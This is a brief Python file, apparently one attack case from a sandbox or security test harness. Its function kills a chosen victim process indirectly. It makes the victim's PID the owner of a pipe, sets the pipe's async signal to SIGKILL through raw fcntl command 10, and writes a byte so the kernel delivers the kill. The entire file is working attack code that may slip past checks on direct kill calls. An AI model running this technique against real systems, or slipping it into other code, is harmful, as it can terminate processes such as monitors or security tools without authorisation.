"""Have the kernel kill another process: make it the owner of a pipe whose signal is SIGKILL."""

import fcntl
import os
from typing import Any


def attack(target: dict[str, Any]) -> bool:
    read, write = os.pipe()
    try:
        fcntl.fcntl(read, fcntl.F_SETOWN, target["victim_pid"])
        fcntl.fcntl(read, 10, 9)  # F_SETSIG
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(write, b"x")
        return True
    except OSError:
        return False
